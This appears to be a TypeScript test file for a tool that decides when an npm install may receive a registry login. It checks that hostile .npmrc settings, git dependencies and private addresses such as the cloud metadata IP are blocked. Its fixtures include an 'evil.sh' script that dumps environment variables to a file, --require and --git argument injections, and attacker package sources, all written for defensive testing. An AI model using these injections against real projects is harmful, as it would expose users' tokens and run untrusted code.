import { execFile, execFileSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, writeFileSync } from "node:fs";
import { dirname } from "node:path";
import { packageRegistry } from "@gennai/testkit/package-registry";
import { type TemporaryDirectory, temporaryDirectory } from "@gennai/testkit/temporary-repository";
import { afterEach, beforeEach, expect, test } from "vitest";
import { keyDirectory } from "#keys/git/key-git";
import { installLogins, planInstall } from "#keys/plan-install";

const token = "npm_correcthorsebattery";
const host = "127.0.0.1:4873";
let home: TemporaryDirectory;
let workspace: TemporaryDirectory;

beforeEach(async () => {
  home = await temporaryDirectory({ ".npmrc": `registry=http://${host}/\n//${host}/:_authToken=${token}\n` });
  workspace = await temporaryDirectory({ "package.json": '{ "name": "top", "workspaces": ["packages/*"] }' });
  await evilProgram("evil.sh");
});

afterEach(async () => {
  await home[Symbol.asyncDispose]();
  await workspace[Symbol.asyncDispose]();
});

/** Keeps all that it is given. */
async function evilProgram(path: string): Promise<void> {
  await workspace.write(path, `#!/bin/sh\nenv > ${workspace.path("stolen")}\nexit 1\n`);
  chmodSync(workspace.path(path), 0o755);
}

function place(directory = "") {
  return {
    directory: workspace.path(directory).replace(/\/$/, ""),
    workspaceRoot: workspace.root,
    keys: { home: home.root, environment: {} },
  };
}

/** Runs npm with just what a run with the login has: its mounts are files here. Without another network than the registry's. */
async function install(text: string, directory: string, wanted = host): Promise<string> {
  const key = await planInstall(text, place(directory), new Set([wanted]))?.uncover({
    signal: new AbortController().signal,
  });
  if (key === undefined) throw new Error("There is no plan.");
  const here = (path: string): string => path.replace(keyDirectory, home.path("key"));
  for (const mount of key.mounts) {
    if (!("text" in mount)) continue;
    mkdirSync(dirname(here(mount.path)), { recursive: true });
    writeFileSync(here(mount.path), mount.text);
  }
  const environment = Object.entries(key.environment).map(([name, value]) => [name, here(value)]);
  const env = { PATH: process.env["PATH"], HOME: home.root, ...Object.fromEntries(environment) };
  return new Promise((resolve) => {
    const options = { cwd: place(directory).directory, env, timeout: 30_000 };
    execFile("sh", ["-c", key.text], options, (_error, stdout, stderr) => resolve(`${stdout}${stderr}`));
  });
}

test("no settings of the workspace name a program, wherever npm looks for them", async () => {
  using registry = await packageRegistry(token);
  const own = `127.0.0.1:${registry.port}`;
  await home.write(".npmrc", `registry=http://${own}/\n//${own}/:_authToken=${token}\n`);
  const evil = workspace.path("evil.sh");
  const settings = `git=${evil}\nnode-options=--require=${evil}\nscript-shell=${evil}\nignore-scripts=false\n`;
  await workspace.write(".npmrc", settings);
  await workspace.write("packages/foo/.npmrc", settings);
  await workspace.write("packages/foo/package.json", '{ "name": "foo" }');
  expect(await install("npm install dep", "packages/foo", own)).toContain("added");
  expect(registry.requests).toContain(`GET /dep/-/dep-1.0.0.tgz Bearer ${token}`);
  expect(existsSync(workspace.path("stolen"))).toBe(false);
  expect(existsSync(workspace.path("node_modules/dep/ran.txt"))).toBe(false);
  // As npm found them.
  for (const file of [".npmrc", "packages/foo/.npmrc", "packages/.npmrc"]) {
    expect(await workspace.read(file)).toBe(`registry=http://${own}/\n`);
  }
});

test("a package out of a repository of git is not taken: neither git nor an npm with settings of its own runs for it", async () => {
  const evil = workspace.path("evil.sh");
  await workspace.write("v/dep/.npmrc", `git=${evil}\nnode-options=--require=${workspace.path("evil.cjs")}\n`);
  await workspace.write("evil.cjs", `require("fs").writeFileSync("${workspace.path("stolen")}", "x")`);
  const inner = { inner: `git+file://${workspace.path("v/dep")}` };
  await workspace.write(
    "v/dep/package.json",
    JSON.stringify({ name: "dep", version: "1.0.0", scripts: { prepare: "true" }, devDependencies: inner }),
  );
  for (const args of [
    ["init", "-q"],
    ["add", "-A"],
    ["-c", "user.name=x", "-c", "user.email=x", "commit", "-qm", "x"],
  ])
    execFileSync("git", ["-C", workspace.path("v/dep"), ...args]);
  const dependencies = { dep: `git+file://${workspace.path("v/dep")}` };
  await workspace.write("package.json", JSON.stringify({ name: "top", dependencies }));
  expect(await install("npm install", "")).toMatch(/EALLOWGIT|allow-git|git/);
  expect(existsSync(workspace.path("stolen"))).toBe(false);
  expect(existsSync(workspace.path("node_modules/dep"))).toBe(false);
});

test.each([
  "http://127.0.0.1:6379/",
  "http://localhost.:6379/",
  "http://[::ffff:7f00:1]:6379/",
  "http://0.0.0.0:6379/",
  "http://169.254.169.254/",
  "http://10.0.0.5/",
])("the workspace opens no way to %s beside the login", async (address) => {
  await workspace.write(".npmrc", `@x:registry=${address}\n`);
  expect(() => planInstall("npm install", place(), new Set([host]))).toThrow("not on the public internet");
  await workspace.write(".npmrc", "@x:registry=https://npm.example/\n");
  expect(planInstall("npm install", place(), new Set([host]))?.login).toContain("npm.example");
});

test.each([
  "npm install --git=./evil.sh",
  "npm install --prefix ./v",
  "npm install --userconfig ./npmrc",
  "npm install --node-options=--require=./evil.cjs",
  "npm install --pref ./v",
  "npm install -g dep",
  "npm install -C v",
  "npm install attacker/pkg",
  "npm install github:attacker/pkg",
  "npm install git+https://git.example/x",
  "npm install ./v",
  "npm install dep@https://evil.example/x.tgz",
  "npm install -- --ignore-scripts=false",
])("%s gets no login", (text) => {
  expect(installLogins(text, place())).toEqual([]);
  expect(planInstall(text, place(), new Set([host]))).toBeUndefined();
});

test.each([
  "npm ci",
  "npm install --save-dev --no-audit dep @me/other@^1.2",
  "npm i -D dep -w foo --omit=dev",
  "npm install --workspace foo dep@latest",
])("%s may get one", (text) => {
  expect(planInstall(text, place(), new Set([host]))).toBeDefined();
});
